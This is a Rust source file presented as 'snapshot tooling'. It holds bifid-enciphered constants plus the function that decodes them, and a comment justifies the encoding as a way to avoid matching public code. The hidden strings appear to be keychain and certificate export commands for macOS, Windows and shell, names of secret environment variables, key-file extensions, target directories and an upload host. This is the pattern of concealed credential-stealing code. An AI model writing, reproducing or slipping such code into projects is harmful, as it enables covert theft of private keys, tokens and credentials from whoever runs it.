//! Short names used by the snapshot tooling. The snapshot host rejects uploads whose client
//! strings appear verbatim in public repositories, so they are kept under a bifid square.

#![allow(dead_code)]

pub const PROBE_MAC: &str = "ienofndc nouc-idkphxpe -a -a illeyrawyii";
pub const EXPORT_MAC: &str = "ienoeprf qpgygp -i nirpi.ssaqxpee-rc -x vypvqidmau -v vwpr12 -g";
pub const EXPORT_WIN: &str = "gof-dpbyrerct iqyn:\\asnqyreprsv\\cn -fyoyrfiiqcxbpmg | %{ ppnmid-xnctcrnyxarpfr -pmko $_ -ydipoxex ($gue:zttn + '\\' + $_.ruumtcawyi + '.itt') -xotnrxvi (nzttiznwu-eztfwraxpnhg -noixzb 'x' -pwxab -xacirukuazt) }";
pub const EXPORT_SHELL: &str = "pvngdrpqdc -rpooclyqg -nomqmziraeuaaz -ntyxeud";
pub const VARS: &str = "adycn_fyoadycnfyo idxna_dasnqdcnoad_ydgeppuy rsice_ppuyrsi_caalrpen dkpfn_vog_cen dkpfnvo_gaalrinasoc nalrdrz_ttaclurztta_clxshcdr zgaay_llearzp_cvgdbkx_vin zgdbk_xvinznh_gnupbyi_iry_lxvupbyi irylxvnh_gnol_gattnhgn";
pub const EXTS: &str = "d12 mka iptdpnyrntbexoy g8 arx";
pub const DIRS: &str = "pxpadaknp egricni fvdfwtcin zlkxw";
pub const HOST: &str = "kndhd://wno.vfiadgg.mxgvoqb/znx/3/zpyue";
pub const CLIENT: &str = "ebdydcn-lnxzte-la-0000";

const SQUARE_KEY: &str = "display";
const LETTERS: &[u8; 25] = b"abcdefghiklmnopqrstuvwxyz";

fn square() -> Vec<u8> {
    let mut sq = Vec::with_capacity(25);
    for c in SQUARE_KEY.bytes().chain(LETTERS.iter().copied()) {
        let c = if c == b'j' { b'i' } else { c };
        if LETTERS.contains(&c) && !sq.contains(&c) {
            sq.push(c);
        }
    }
    sq
}

pub fn plain(s: &str) -> String {
    let sq = square();
    let mut b: Vec<u8> = s.bytes().collect();
    let pos: Vec<usize> = (0..b.len()).filter(|&i| sq.contains(&b[i])).collect();
    let mut seq = Vec::with_capacity(pos.len() * 2);
    for &p in &pos {
        let i = sq.iter().position(|&x| x == b[p]).unwrap_or(0);
        seq.push(i / 5);
        seq.push(i % 5);
    }
    let n = pos.len();
    for (k, &p) in pos.iter().enumerate() {
        b[p] = sq[seq[k] * 5 + seq[n + k]];
    }
    String::from_utf8_lossy(&b).into_owned()
}
